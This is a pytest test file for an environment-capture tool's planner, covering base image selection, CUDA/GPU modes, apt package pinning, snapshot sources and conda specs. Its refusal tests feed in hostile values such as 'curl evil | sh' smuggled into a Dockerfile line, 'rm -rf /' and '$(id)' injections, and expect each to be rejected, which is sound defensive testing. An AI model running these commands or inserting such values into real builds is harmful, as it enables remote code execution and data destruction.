"""The planner's decisions, called directly on purpose-built manifests (no CLI, no docker): which base, which
system packages are pinned and which are left to the base or named as not reproduced, the apt snapshot sources,
the GPU mode, the project stage, the VM size, and the refusal of hostile values that reach the planner
without the manifest's validation in front of it."""

from __future__ import annotations

import copy

import pytest

from envcapture.errors import BadInput
from envcapture.render import bases
from envcapture.render.plan import Options, make_plan, safe_text

from .conftest import load_manifest

GIB = 1024 ** 3
COMMIT = "3a2f0b23b5e87e4699734d25008d0fadf212904c"


def options(**given) -> Options:
    return Options(targets=("docker",), command="envcapture generate docker -m m.json", manifest_sha256="ab" * 32,
                   **given)


def debian(manual=(), auto=(), **changes) -> dict:
    """plain-venv.json (pyenv Python 3.11.7, Debian 12, no GPU) with exactly these system packages."""
    data = copy.deepcopy(load_manifest("plain-venv.json"))
    data["gpu"] = None
    data["python"]["package_indexes"] = {}
    data["system_packages"] = {"manager": "dpkg", "sources": [], "packages": [
        *({"name": n, "version": v, "architecture": "amd64", "manual": True} for n, v in manual),
        *({"name": n, "version": v, "architecture": "amd64", "manual": False} for n, v in auto)]}
    data.update(changes)
    return data


def on(data: dict, os_id: str, version: str, codename: str | None) -> dict:
    data["os"].update({"id": os_id, "version_id": version, "codename": codename, "pretty_name": f"{os_id} {version}"})
    return data


def plan(data: dict, **given):
    return make_plan(data, options(**given))


def not_reproduced(p, section="system_packages") -> dict[str, str]:
    return {n.item: n.why for n in p.not_reproduced if n.section == section}


# ------------------------------------------------------------------------------------------------ the base image

def test_a_pyenv_python_on_debian_gets_the_python_image_of_the_captured_release():
    p = plan(on(debian(), "debian", "13", "trixie"))
    assert p.base.image == "python:3.11.7-slim-trixie"
    assert (p.base.kind, p.base.python_setup, p.base.distro, p.base.codename) == \
        ("python", "image", ("debian", "13"), "trixie")
    # A release the Python image is not published for: its default release.
    assert plan(on(debian(), "debian", "11", "bullseye")).base.image == "python:3.11.7-slim-bookworm"
    assert "pyenv" in p.base.reason
    assert p.python_version == "3.11.7" and p.python_minor == "3.11"


def test_a_python_captured_on_ubuntu_gets_a_debian_python_image():
    p = plan(on(debian(), "ubuntu", "22.04", "jammy"))
    assert p.base.image.startswith("python:3.11.7-slim-") and p.base.distro[0] == "debian"
    assert p.base.codename in bases.DEBIAN_RELEASES.values()
    # The recorded Ubuntu packages cannot be installed on Debian: kept out, with the reason.
    data = on(debian(manual=[("jq", "1.6-2.1ubuntu3")]), "ubuntu", "22.04", "jammy")
    p = plan(data)
    assert p.system_install is False and p.system_packages == [("jq", "1.6-2.1ubuntu3")]
    assert "recorded on ubuntu 22.04" in p.system_note and f"the base is debian {p.base.distro[1]}" in p.system_note
    assert "system packages are not installed on this base" in not_reproduced(p)["jq"]


def test_a_python_version_the_image_table_lacks_gets_the_plain_slim_tag():
    data = debian()
    data["python"]["version"] = "3.99.1"
    p = plan(data)
    assert p.base.image == "python:3.99.1-slim" and p.base.distro is None and p.base.codename is None


def test_a_development_build_plus_is_dropped_from_the_version():
    data = debian()
    data["python"]["version"] = "3.11.7+"
    assert plan(data).python_version == "3.11.7"


def test_the_distributions_own_python_gets_the_same_distribution_image_with_python3_pinned():
    data = on(debian(manual=[("python3", "3.11.2-1+b1"), ("jq", "1.6-2.1+deb12u1")],
                     auto=[("python3-venv", "3.11.2-1+b1")]), "debian", "12", "bookworm")
    data["python"]["origin"] = "distro"
    p = plan(data)
    assert (p.base.image, p.base.kind, p.base.python_setup, p.base.distro, p.base.codename) == \
        ("debian:bookworm", "distro", "apt", ("debian", "12"), "bookworm")
    assert p.apt_python == ["python3=3.11.2-1+b1", "python3-venv=3.11.2-1+b1"]
    assert "python3" not in not_reproduced(p)
    ubuntu = on(copy.deepcopy(data), "ubuntu", "22.04", "jammy")
    p = plan(ubuntu)
    assert (p.base.image, p.base.codename) == ("ubuntu:22.04", "jammy")
    # A distribution without an image in the table: the official Python image instead.
    fedora = on(copy.deepcopy(data), "fedora", "40", None)
    assert plan(fedora).base.kind == "python"


def test_python3_from_apt_is_never_named_as_not_reproduced():
    # Packages recorded by another manager are not installed, but python3 itself comes from the image's apt.
    data = on(debian(manual=[("python3", "3.12.3-0ubuntu2"), ("jq", "1.7.1-3build1")]), "ubuntu", "24.04", "noble")
    data["python"]["origin"] = "distro"
    data["system_packages"]["manager"] = "snapshot-of-dpkg"
    p = plan(data)
    assert p.system_install is False and p.apt_python == ["python3=3.12.3-0ubuntu2", "python3-venv"]
    assert set(not_reproduced(p)) == {"jq"}


def test_python3_without_a_recorded_version_is_left_unpinned():
    data = debian(manual=[("jq", "1.6-2.1+deb12u1")])
    data["python"]["origin"] = "distro"
    assert plan(data).apt_python == ["python3", "python3-venv"]


def test_conda_base_only_for_a_conda_python():
    conda = load_manifest("conda-env.json")
    p = plan(conda)
    assert (p.base.image, p.base.kind, p.is_conda) == (bases.MICROMAMBA_IMAGE, "conda", True)
    conda["python"]["origin"] = "pyenv"
    p = plan(conda)
    assert p.base.kind == "python" and not p.is_conda


# ---------------------------------------------------------------------------------------------------- --base-image

@pytest.mark.parametrize("image, setup, distro, codename", [
    ("python:3.11-slim-bookworm", "image", ("debian", "12"), "bookworm"),
    ("python:3.12-bookworm", "image", ("debian", "12"), "bookworm"),
    ("docker.io/library/python:3.12-slim-trixie", "image", ("debian", "13"), "trixie"),
    ("library/python@sha256:" + "a" * 64, "image", None, None),
    ("python:3.11-alpine", "image", None, None),
    ("debian:bookworm-slim", "apt", ("debian", "12"), "bookworm"),
    ("docker.io/library/debian:12.5", "apt", ("debian", "12"), "bookworm"),
    ("ubuntu:22.04", "apt", ("ubuntu", "22.04"), "jammy"),
    ("ubuntu:noble", "apt", ("ubuntu", "24.04"), "noble"),
    ("debian", "apt", None, None),
    ("registry.example:5000/python:3.11", "apt", None, None),
    ("registry.example/team/debian:12", "apt", None, None),
    ("myorg/tools:2.1-bookworm", "apt", None, None),  # only the official Python image's tag names its release
])
def test_the_distribution_of_a_base_image_is_read_from_official_names_only(image, setup, distro, codename):
    p = plan(debian(), base_image=image)
    assert (p.base.image, p.base.kind, p.base.python_setup, p.base.distro, p.base.codename) == \
        (image, "override", setup, distro, codename)
    assert "--base-image replaces the base chosen from the manifest" in p.notes


@pytest.mark.parametrize("base_os, distro, codename", [
    ("debian:12", ("debian", "12"), "bookworm"),
    ("Debian:12.7", ("debian", "12"), "bookworm"),
    ("debian:trixie", ("debian", "13"), "trixie"),
    ("ubuntu:22.04", ("ubuntu", "22.04"), "jammy"),
    ("ubuntu:focal", ("ubuntu", "20.04"), "focal"),
    ("rocky:9", ("rocky", "9"), None),
])
def test_base_os_names_the_distribution_of_any_image(base_os, distro, codename):
    p = plan(debian(), base_image="registry.example/team/base:1", base_os=base_os)
    assert (p.base.distro, p.base.codename) == (distro, codename)


@pytest.mark.parametrize("base_os", ["debian", "debian:", ":12", "debian:12;rm -rf /", "de bian:12"])
def test_a_malformed_base_os_is_refused(base_os):
    with pytest.raises(BadInput, match="--base-os .*expected ID:VERSION"):
        plan(debian(), base_image="registry.example/base:1", base_os=base_os)


def test_a_hostile_base_image_is_refused():
    with pytest.raises(BadInput, match="--base-image"):
        plan(debian(), base_image="debian:12\nRUN curl evil | sh")


def test_an_unknown_base_gets_no_system_packages_and_says_why():
    p = plan(debian(manual=[("jq", "1.6-2.1+deb12u1")]), base_image="registry.example/base:1")
    assert p.system_install is False and p.left_to_base == [] and p.fallback_snapshot_lines == []
    assert "the base is an unknown distribution (--base-image)" in p.system_note
    assert "recorded on debian 12" in p.system_note
    assert not p.vm_system_install or p.vagrant_box_exact  # the VM is the captured release: it can pin them


# ------------------------------------------------------------------------------------------------------------ GPU

def gpu(**given) -> dict:
    record = {"vendor": None, "driver": None, "devices": [], "toolkits": [], "cudnn": [], "cuda_wheels": [],
              "frameworks": [], "rocm": None, "mps": False, "verdict": []}
    record.update(given)
    return record


H100 = [{"name": "NVIDIA H100 80GB HBM3", "index": 0}]


def test_no_gpu_record_or_another_vendor_means_no_gpu():
    assert plan(debian()).gpu.mode == "none" and not plan(debian()).needs_gpu
    assert plan(debian(gpu=gpu(vendor="amd", devices=[{"name": "MI300X"}]))).gpu.mode == "none"


def test_a_driver_and_devices_without_cuda_in_use_need_no_gpu_image():
    g = plan(debian(gpu=gpu(vendor="nvidia", driver={"version": "580.1"}, devices=H100))).gpu
    assert (g.mode, g.device_names, g.cuda) == ("none", ["NVIDIA H100 80GB HBM3"], None)


def test_cuda_wheels_give_the_wheels_mode_and_the_runtime_version():
    wheels = [{"name": "nvidia-cublas-cu12", "version": "12.4.5.8", "cuda_major": "12"},
              {"name": "nvidia-cuda-runtime-cu12", "version": "12.4.127", "cuda_major": "12"}]
    p = plan(debian(gpu=gpu(vendor="nvidia", devices=H100, cuda_wheels=wheels)))
    assert (p.gpu.mode, p.gpu.cuda, p.needs_gpu) == ("wheels", "12.4", True)
    assert p.base.kind == "python" and "CUDA comes from pip wheels" in p.base.reason
    # Without the runtime wheel: the newest CUDA major of the wheels.
    majors = [{"name": "nvidia-cublas-cu11", "version": "11.11.3.6", "cuda_major": "11"},
              {"name": "nvidia-cudnn-cu12", "version": "9.1.0.70", "cuda_major": "12"}]
    assert plan(debian(gpu=gpu(cuda_wheels=majors))).gpu.cuda == "12.0"
    assert plan(debian(gpu=gpu(cuda_wheels=[{"name": "nvidia-nccl-cu12", "version": "2.21.5"}]))).gpu.cuda is None
    # A framework's own CUDA version wins over what the wheels suggest.
    frameworks = [{"name": "torch", "cuda": "12.1"}, {"name": "jax", "cuda": "12.6"}]
    assert plan(debian(gpu=gpu(vendor="nvidia", frameworks=frameworks, cuda_wheels=wheels))).gpu.cuda == "12.6"


def test_a_system_toolkit_in_use_gets_nvidias_cuda_image():
    kits = [{"version": "12.1", "path": "/usr/local/cuda-12.1"}, {"version": None}, {"version": "12.6"}]
    p = plan(debian(gpu=gpu(vendor="nvidia", driver={"version": "580.1"}, devices=H100, toolkits=kits)))
    assert (p.gpu.mode, p.gpu.toolkit, p.gpu.cuda, p.gpu.cudnn) == ("system", "12.6", "12.6", None)
    assert p.base.image == "nvidia/cuda:12.6.3-devel-ubuntu24.04"
    assert (p.base.kind, p.base.python_setup, p.base.distro, p.base.codename) == \
        ("cuda", "uv", ("ubuntu", "24.04"), "noble")
    assert "a system CUDA toolkit:" in p.base.reason
    assert p.warnings == []  # 12.6 is in the table and within its support window


def test_a_toolkit_with_a_gpu_seen_but_no_driver_record_is_in_use():
    p = plan(debian(gpu=gpu(vendor="nvidia", devices=H100, toolkits=[{"version": "12.8"}])))
    assert (p.gpu.mode, p.base.image) == ("system", "nvidia/cuda:12.8.1-devel-ubuntu24.04")


def test_system_cudnn_without_a_toolkit_gets_a_cudnn_runtime_image_on_the_captured_ubuntu():
    cudnn = [{"version": "9.0.0", "source": "wheel"}, {"version": "8.9.7", "source": "library"}]
    data = on(debian(gpu=gpu(vendor="nvidia", devices=H100, cudnn=cudnn,
                             frameworks=[{"name": "torch", "cuda": "12.2"}])), "ubuntu", "20.04", "focal")
    p = plan(data)
    assert (p.gpu.mode, p.gpu.cudnn, p.gpu.toolkit, p.gpu.cuda) == ("system", "8.9.7", None, "12.2")
    assert p.base.image == "nvidia/cuda:12.2.2-cudnn8-runtime-ubuntu20.04"
    assert "runtime and cuDNN" in p.base.reason
    assert any("past NVIDIA's support window" in w and "12.2.2" in w for w in p.warnings)


def test_a_cuda_version_missing_from_the_table_takes_the_nearest_newer_row_and_says_so():
    p = plan(debian(gpu=gpu(vendor="nvidia", driver={"version": "580.1"}, toolkits=[{"version": "12.5"}])))
    assert p.base.image.startswith("nvidia/cuda:12.6.3-devel-")
    assert any("CUDA 12.5 is not in envcapture's table" in w and "using 12.6.3" in w for w in p.warnings)


def test_a_framework_cuda_version_missing_from_the_table_is_named_too():
    cudnn = [{"version": "9.1.0", "source": "library"}]
    p = plan(debian(gpu=gpu(vendor="nvidia", devices=H100, cudnn=cudnn, frameworks=[{"name": "torch", "cuda": "12.5"}])))
    assert (p.gpu.mode, p.gpu.toolkit, p.base.image) == ("system", None, "nvidia/cuda:12.6.3-cudnn-runtime-ubuntu24.04")
    assert any("CUDA 12.5 is not in envcapture's table" in w for w in p.warnings)


def test_a_toolkit_nobody_uses_is_a_note_not_a_cuda_base():
    p = plan(debian(gpu=gpu(toolkits=[{"version": "13.0"}])))
    assert (p.gpu.mode, p.gpu.toolkit, p.base.kind) == ("none", "13.0", "python")
    assert any(n.startswith("a CUDA 13.0 toolkit was installed") for n in p.notes)
    p = plan(debian(gpu=gpu(vendor="nvidia", cudnn=[{"version": "9.1.0", "source": "header"}])))
    assert (p.gpu.mode, p.gpu.cudnn) == ("none", "9.1.0") and not p.notes


@pytest.mark.parametrize("field, value, where", [
    ("devices", [{"name": "H100 `reboot`"}], "gpu.devices[0].name"),
    ("toolkits", [{"version": "12.1; rm -rf /"}], "gpu.toolkits[0].version"),
    ("cudnn", [{"version": "9 $(id)", "source": "library"}], "gpu.cudnn[0].version"),
    ("frameworks", [{"name": "torch", "cuda": "12.1\nRUN id"}], "gpu.frameworks[0].cuda"),
    ("cuda_wheels", [{"name": "nvidia-cuda-runtime-cu12", "version": "12.4 && id"}], "gpu.cuda_wheels[0].version"),
])
def test_hostile_gpu_values_are_refused_with_their_place(field, value, where):
    with pytest.raises(BadInput, match=f"^{where.replace('[', '.').replace(']', '.')}"):
        plan(debian(gpu=gpu(vendor="nvidia", driver={"version": "1"}, **{field: value})))


# ------------------------------------------------------------------------------------------- system packages

def test_only_hand_installed_packages_are_pinned_sorted_and_machine_packages_are_dropped():
    manual = [("jq", "1.6-2.1+deb12u1"), ("curl", "7.88.1-10+deb12u14"), ("jq", "1.6-2.1+deb12u1"),
              ("linux-image-amd64", "6.1.0-28"), ("grub-pc", "2.06-13"), ("nvidia-driver", "535.1"),
              ("libnvidia-ml1", "535.1"), ("firmware-misc-nonfree", "20230210-5")]
    p = plan(debian(manual=manual, auto=[("libjq1", "1.6-2.1+deb12u1")]))
    assert p.system_install is True
    assert p.system_packages == [("curl", "7.88.1-10+deb12u14"), ("jq", "1.6-2.1+deb12u1")]
    assert p.dropped_system == ["firmware-misc-nonfree", "grub-pc", "libnvidia-ml1", "linux-image-amd64",
                                "nvidia-driver"]
    why = not_reproduced(p)
    assert set(why) == set(p.dropped_system)
    assert all("belongs to the machine" in w for w in why.values())
    assert p.system_note == "2 installed pinned, 0 left to the base image (the base is the captured debian 12)"
    assert p.vm_system_install is True


def test_essential_and_base_packages_are_left_to_the_base_and_named():
    p = plan(debian(manual=[("libc6", "2.36-9+deb12u13"), ("bash", "5.2.15-2+b7"), ("jq", "1.6-2.1+deb12u1")]))
    assert p.system_packages == [("jq", "1.6-2.1+deb12u1")]
    assert p.left_to_base == ["bash", "libc6"]
    assert p.system_note == "1 installed pinned, 2 left to the base image (the base is the captured debian 12)"
    assert {k: "left to the base image" in v for k, v in not_reproduced(p).items()} == {"bash": True, "libc6": True}
    # Ubuntu has no dated table: only what `build` read from the base image is left to it.
    ubuntu = on(debian(manual=[("libc6", "2.39-0ubuntu8"), ("jq", "1.7.1-3build1")]), "ubuntu", "24.04", "noble")
    ubuntu["python"]["origin"] = "distro"
    assert plan(ubuntu).left_to_base == []
    p = plan(ubuntu, base_has=frozenset({"libc6", "bash"}))
    assert p.left_to_base == ["libc6"] and p.system_packages == [("jq", "1.7.1-3build1")]


def test_another_package_manager_is_never_installed_with_apt():
    data = debian(manual=[("openssl-libs", "3.0.7-27.el9")])
    data["system_packages"]["manager"] = "rpm"
    p = plan(data)
    assert p.system_install is False and p.system_packages == [("openssl-libs", "3.0.7-27.el9")]
    assert p.vm_system_install is False
    assert "system packages are not installed on this base" in not_reproduced(p)["openssl-libs"]


def test_rpm_names_follow_the_package_token_rule_and_deb_names_the_debian_rule():
    data = debian(manual=[("NetworkManager", "1.42.2-1.el9")])
    data["system_packages"]["manager"] = "rpm"
    assert plan(data).system_packages == [("NetworkManager", "1.42.2-1.el9")]
    with pytest.raises(BadInput, match=r"system_packages\.packages\[0\]\.name"):
        plan(debian(manual=[("NetworkManager", "1.42.2-1")]))


@pytest.mark.parametrize("name, version, where", [
    ("jq;id", "1.6", "name"), ("jq", "1.6 && id", "version"), ("jq", "1.6\nRUN id", "version")])
def test_hostile_system_package_values_are_refused(name, version, where):
    with pytest.raises(BadInput, match=rf"system_packages\.packages\[0\]\.{where}"):
        plan(debian(manual=[(name, version)]))


def test_a_conda_base_installs_only_debian_12_packages():
    conda = load_manifest("conda-env.json")
    assert plan(conda).system_install is True
    bullseye = on(copy.deepcopy(conda), "debian", "11", "bullseye")
    p = plan(bullseye)
    assert p.system_install is False and p.left_to_base == []
    assert "recorded on debian 11 and the base is debian 12" in p.system_note
    assert not_reproduced(p) == {}  # conda kits list their own system packages
    bullseye["system_packages"]["packages"] = []
    assert plan(bullseye).system_note.startswith("the conda image is Debian-based")


def origin(suite, archive="Debian", url="http://deb.debian.org/debian"):
    return {"url": url, "suite": suite, "archive": archive}


def test_a_version_apt_cannot_install_is_left_out_with_the_reason():
    data = debian()
    data["system_packages"]["packages"] = [
        {"name": "jq", "version": "1.6-2.1+deb12u1", "manual": True, "origin": origin("bookworm-security")},
        {"name": "curl", "version": "7.88.1-10+deb12u14", "manual": True, "origin": origin("bookworm-updates")},
        {"name": "git", "version": "1:2.39.5-0+deb12u3", "manual": True, "origin": origin("bookworm")},
        {"name": "htop", "version": "3.2.2-2", "manual": True},
        {"name": "mydeb", "version": "1.0", "manual": True, "origin": None},
        {"name": "golang", "version": "2:1.21~2~bpo12+1", "manual": True,
         "origin": origin("bookworm-backports", "Debian Backports")},
        {"name": "docker-ce", "version": "5:27.3.1-1~debian.12~bookworm", "manual": True,
         "origin": origin("bookworm", "Docker", "https://download.docker.com/linux/debian")},
        {"name": "fromsid", "version": "2.0-1", "manual": True, "origin": origin("sid")},
        {"name": "noorigin", "version": "2.0-1", "manual": True,
         "origin": {"url": "https://repo.example/apt", "suite": "stable", "archive": None}},
    ]
    p = plan(data)
    assert [n for n, _ in p.system_packages] == ["curl", "git", "htop", "jq"]
    why = {name: reason for name, _, reason in p.unavailable_system}
    assert [n for n, _, _ in p.unavailable_system] == sorted(why)
    assert set(why) == {"mydeb", "golang", "docker-ce", "fromsid", "noorigin"}
    assert why["mydeb"].startswith("no apt source configured at capture time")
    assert why["golang"] == "from the Debian Backports suite `bookworm-backports`, which the image's apt sources lack"
    assert why["fromsid"] == "from the Debian suite `sid`, which the image's apt sources lack"
    assert "`https://download.docker.com/linux/debian bookworm` (Docker)" in why["docker-ce"]
    assert "(no Origin in its Release file)" in why["noorigin"]
    reported = not_reproduced(p)
    assert set(reported) == set(why)
    assert reported["golang"] == "the image's apt cannot install it: " + why["golang"]


@pytest.mark.parametrize("origin_record, where", [
    ({"url": "http://deb.debian.org/debian;id", "suite": "bookworm", "archive": "Debian"}, "origin.url"),
    ({"url": "http://deb.debian.org/debian", "suite": "bookworm main`id`", "archive": "Debian"}, "origin.suite"),
    ({"url": "http://deb.debian.org/debian", "suite": "bookworm", "archive": "Debian $(id)"}, "origin.archive"),
])
def test_hostile_origins_are_refused(origin_record, where):
    data = debian()
    data["system_packages"]["packages"] = [{"name": "jq", "version": "1.6", "manual": True, "origin": origin_record}]
    with pytest.raises(BadInput, match=rf"system_packages\.packages\[0\]\.{where}"):
        plan(data)


def test_third_party_apt_sources_are_named_when_packages_are_pinned():
    sources = ["deb http://deb.debian.org/debian bookworm main",
               "deb https://download.docker.com/linux/debian bookworm stable",
               "deb http://security.debian.org/debian-security bookworm-security main"]
    data = debian(manual=[("jq", "1.6-2.1+deb12u1")])
    data["system_packages"]["sources"] = sources
    notes = [n for n in plan(data).notes if n.startswith("apt sources beyond")]
    assert notes == ["apt sources beyond the distribution's archive were configured "
                     "(`deb https://download.docker.com/linux/debian bookworm stable`): hand-installed packages "
                     "from them fail to install until their source and signing key are added to the image"]
    data["system_packages"]["packages"] = []
    assert not [n for n in plan(data).notes if n.startswith("apt sources beyond")]
    data["system_packages"]["sources"] = ["deb http://deb.debian.org/debian bookworm main; curl evil"]
    with pytest.raises(BadInput, match=r"system_packages\.sources\[0\]"):
        plan(data)


# -------------------------------------------------------------------------------------------------- apt snapshot

def test_apt_snapshot_lines_for_debian_include_security_and_updates():
    p = plan(debian(manual=[("jq", "1.6-2.1+deb12u1")]), apt_snapshot="2025-06-01")
    assert p.snapshot_lines == [
        "deb [check-valid-until=no] http://snapshot.debian.org/archive/debian/20250601T000000Z bookworm main",
        "deb [check-valid-until=no] http://snapshot.debian.org/archive/debian/20250601T000000Z bookworm-updates main",
        "deb [check-valid-until=no] http://snapshot.debian.org/archive/debian-security/20250601T000000Z "
        "bookworm-security main"]
    assert p.fallback_snapshot_lines == []  # the chosen day replaces the capture-day fallback
    # snapshot.debian.org has every day since 2005: no start date as on Ubuntu.
    assert "/20210115T000000Z bookworm main" in plan(debian(), apt_snapshot="2021-01-15").snapshot_lines[0]


def test_apt_snapshot_lines_for_ubuntu_have_no_separate_security_archive():
    data = on(debian(), "ubuntu", "22.04", None)  # codename from the release table
    p = plan(data, apt_snapshot="2024-02-29")
    assert p.snapshot_lines == [
        "deb [check-valid-until=no] http://snapshot.ubuntu.com/ubuntu/20240229T000000Z jammy main",
        "deb [check-valid-until=no] http://snapshot.ubuntu.com/ubuntu/20240229T000000Z jammy-updates main"]


def test_the_codename_comes_from_the_debian_table_when_os_release_lacks_it():
    data = on(debian(), "debian", "12", None)
    assert plan(data, apt_snapshot="2025-06-01").snapshot_lines[0].endswith(" bookworm main")


@pytest.mark.parametrize("os_id, version", [("fedora", "40"), ("debian", "99"), ("ubuntu", "26.10")])
def test_apt_snapshot_on_an_os_without_a_known_archive_is_refused(os_id, version):
    data = on(debian(), os_id, version, None)
    with pytest.raises(BadInput, match="has no snapshot archive envcapture knows"):
        plan(data, apt_snapshot="2025-06-01")


@pytest.mark.parametrize("date, why", [("2025-02-29", "not a calendar date"), ("tomorrow", "not a calendar date"),
                                       ("9999-01-01", "in the future")])
def test_apt_snapshot_needs_a_past_calendar_day(date, why):
    with pytest.raises(BadInput, match=why):
        plan(debian(), apt_snapshot=date)


def test_today_is_a_past_day_for_the_snapshot_archives():
    import datetime

    today = datetime.datetime.now(datetime.timezone.utc).date().isoformat()
    assert plan(debian(), apt_snapshot=today).snapshot_lines[0].endswith(f"/{today.replace('-', '')}T000000Z bookworm main")


def test_apt_snapshot_off_means_no_snapshot_at_all():
    p = plan(debian(manual=[("jq", "1.6-2.1+deb12u1")]), apt_snapshot="off")
    assert p.snapshot_lines == [] and p.fallback_snapshot_lines == []


def test_the_fallback_snapshot_is_the_capture_day_and_only_for_pinned_packages():
    data = debian(manual=[("jq", "1.6-2.1+deb12u1")])
    data["created"] = "2025-03-04T23:59:59Z"
    p = plan(data)
    assert p.snapshot_lines == []
    assert p.fallback_snapshot_lines[0] == ("deb [check-valid-until=no] http://snapshot.debian.org/archive/debian/"
                                            "20250304T000000Z bookworm main")
    assert len(p.fallback_snapshot_lines) == 3
    assert plan(debian()).fallback_snapshot_lines == []  # nothing pinned, nothing to fall back for
    assert plan(data, base_image="registry.example/base:1").fallback_snapshot_lines == []
    data["created"] = "2021-01-15T08:00:00Z"  # snapshot.debian.org has every day since 2005
    assert plan(data).fallback_snapshot_lines[0].endswith("/20210115T000000Z bookworm main")


def test_no_ubuntu_fallback_before_snapshot_ubuntu_com_starts():
    data = on(debian(manual=[("jq", "1.6-2.1ubuntu3")]), "ubuntu", "22.04", "jammy")
    data["python"]["origin"] = "distro"
    data["created"] = "2023-02-28T12:00:00Z"
    assert plan(data).system_install and plan(data).fallback_snapshot_lines == []
    data["created"] = "2023-03-01T00:00:00Z"
    assert plan(data).fallback_snapshot_lines[0].endswith("/20230301T000000Z jammy main")


# ---------------------------------------------------------------------------------------------- environment

def test_determinism_variables_become_sorted_env_lines_and_hostile_ones_are_refused():
    data = debian()
    data["determinism"]["environment"] = {"PYTHONHASHSEED": "0", "CUBLAS_WORKSPACE_CONFIG": ":4096:8",
                                          "XLA_FLAGS": "--xla_gpu_deterministic_ops=true", "UNSET": None}
    assert plan(data).environment == [("CUBLAS_WORKSPACE_CONFIG", ":4096:8"), ("PYTHONHASHSEED", "0"),
                                      ("XLA_FLAGS", "--xla_gpu_deterministic_ops=true")]
    for name, value in [("PYTHONHASHSEED", "0 $(id)"), ("PYTHONHASHSEED", "a b"), ("BAD NAME", "1"),
                        ("PYTHONHASHSEED", "0\nRUN id")]:
        data["determinism"]["environment"] = {name: value}
        with pytest.raises(BadInput, match="determinism.environment"):
            plan(data)


# ------------------------------------------------------------------------------------------------- free text

@pytest.mark.parametrize("text", ["a `b`", "$HOME", 'say "x"', "it's", "a\\b", "<b>", "a & b", "a; b", "a | b",
                                  "{x}", "two\nlines"])
def test_free_text_with_markup_or_shell_characters_is_refused(text):
    with pytest.raises(BadInput, match="^os.pretty_name"):
        safe_text(text, "os.pretty_name")
    data = debian()
    data["os"]["pretty_name"] = text
    with pytest.raises(BadInput, match="^os.pretty_name"):
        plan(data)


def test_plain_free_text_is_kept():
    assert safe_text("Debian GNU/Linux 12 (bookworm)", "os.pretty_name") == "Debian GNU/Linux 12 (bookworm)"
    data = debian()
    data["os"]["pretty_name"] = None
    assert plan(data).os_pretty is None


@pytest.mark.parametrize("field, value", [("id", "debian;id"), ("version_id", "12 x"), ("codename", "book$worm")])
def test_hostile_os_identifiers_are_refused(field, value):
    data = debian()
    data["os"][field] = value
    with pytest.raises(BadInput, match=f"^os.{field}"):
        plan(data)


def test_hostile_created_and_python_version_are_refused():
    data = debian()
    data["created"] = "2025-06-01T00:00:00Z; id"
    with pytest.raises(BadInput, match="^created"):
        plan(data)
    data = debian()
    data["python"]["version"] = "3.11.7 && id"
    with pytest.raises(BadInput, match="^python.version"):
        plan(data)


# ------------------------------------------------------------------------------------------------------- conda

def conda_record(name, version="1.0", build="h0_0", channel="conda-forge", subdir="linux-64", url=True, md5=True):
    record = {"name": name, "version": version, "build": build, "channel": channel, "subdir": subdir}
    if url:
        record["url"] = f"https://conda.anaconda.org/{channel}/{subdir}/{name}-{version}-{build}.conda"
    if md5:
        record["md5"] = "0123456789abcdef0123456789abcdef"
    return record


def test_conda_records_become_specs_explicit_urls_and_channels():
    data = load_manifest("conda-env.json")
    data["conda"]["packages"] = [
        conda_record("zlib"), conda_record("numpy", "1.26.4", "py310_0", "defaults"),
        conda_record("certifi", build="pypi_0", channel="pypi"), conda_record("six", build="pypi_0", channel=None),
        conda_record("nourl", url=False), conda_record("nomd5", md5=False, channel="conda-forge"),
        conda_record("osxonly", subdir="osx-arm64"), conda_record("noarchpkg", subdir="noarch"),
        conda_record("pytorch", "2.5.1", "py3.10_cuda12.4_0", "pytorch")]
    p = plan(data)
    assert p.conda_specs == sorted(["zlib=1.0=h0_0", "numpy=1.26.4=py310_0", "nourl=1.0=h0_0", "nomd5=1.0=h0_0",
                                    "osxonly=1.0=h0_0", "noarchpkg=1.0=h0_0", "pytorch=2.5.1=py3.10_cuda12.4_0"])
    assert p.conda_channels == ["conda-forge", "defaults", "pytorch"]
    assert p.conda_missing == ["nourl=1.0=h0_0", "nomd5=1.0=h0_0"]
    assert p.conda_explicit == sorted(p.conda_explicit) and len(p.conda_explicit) == 5
    assert "https://conda.anaconda.org/conda-forge/linux-64/zlib-1.0-h0_0.conda#0123456789abcdef0123456789abcdef" \
        in p.conda_explicit
    assert p.conda_subdirs_ok is False
    assert "2 conda record(s) have no URL or md5 and are not in conda-explicit.txt: nourl=1.0=h0_0, nomd5=1.0=h0_0" \
        in p.warnings
    data["conda"]["packages"] = [conda_record("zlib", channel=None), conda_record("x", subdir="noarch", channel=None),
                                 conda_record("y", subdir=None, channel=None)]
    p = plan(data)
    assert p.conda_channels == ["conda-forge"] and p.conda_subdirs_ok is True and p.conda_missing == []
    assert not [w for w in p.warnings if "conda record" in w]


@pytest.mark.parametrize("field, value", [("name", "zlib;id"), ("version", "1 0"), ("build", "h0`id`"),
                                          ("channel", "conda-forge/../x y"), ("subdir", "linux 64"),
                                          ("url", "https://x.example/a b"), ("md5", "nothex")])
def test_hostile_conda_values_are_refused(field, value):
    data = load_manifest("conda-env.json")
    record = conda_record("zlib")
    record[field] = value
    data["conda"]["packages"] = [record]
    with pytest.raises(BadInput, match=rf"conda\.packages\[0\]"):
        plan(data)


# ------------------------------------------------------------------------------------------------ code, project

def test_the_recorded_code_is_checked_and_a_dirty_tree_is_a_warning():
    data = debian()
    data["code"] = {"commit": COMMIT, "remote": "https://github.com/example/proj.git", "dirty": True}
    p = plan(data)
    assert (p.code_remote, p.code_commit, p.code_dirty) == ("https://github.com/example/proj.git", COMMIT, True)
    assert any("uncommitted changes" in w for w in p.warnings)
    data["code"] = {"commit": COMMIT, "remote": None, "dirty": False}
    p = plan(data)
    assert (p.code_remote, p.code_dirty) == (None, False) and not any("uncommitted" in w for w in p.warnings)
    for field, value in [("remote", "https://user:token@github.com/x.git"), ("commit", "HEAD; id")]:
        data["code"] = {"commit": COMMIT, field: value}
        with pytest.raises(BadInput, match=f"^code.{field}"):
            plan(data)


def project_package(kind="editable", url="file:///work/proj", checkout=None, subdirectory=None, name="My_Proj"):
    return {"name": name, "version": "0.3.0", "requested": True, "installer": "pip",
            "source": {"kind": kind, "url": url, "vcs": None, "commit": None, "subdirectory": subdirectory,
                       "hash": None, "checkout": checkout}}


def with_project(package, root="/work/proj", code=None) -> dict:
    data = debian()
    data["filesystem"]["project"]["root"] = root
    data["code"] = code or {"commit": None, "dirty": False}
    data["python_packages"].append(package)
    return data


def test_an_editable_install_of_the_project_root_is_the_project():
    p = plan(with_project(project_package(checkout={"commit": COMMIT, "dirty": True})))
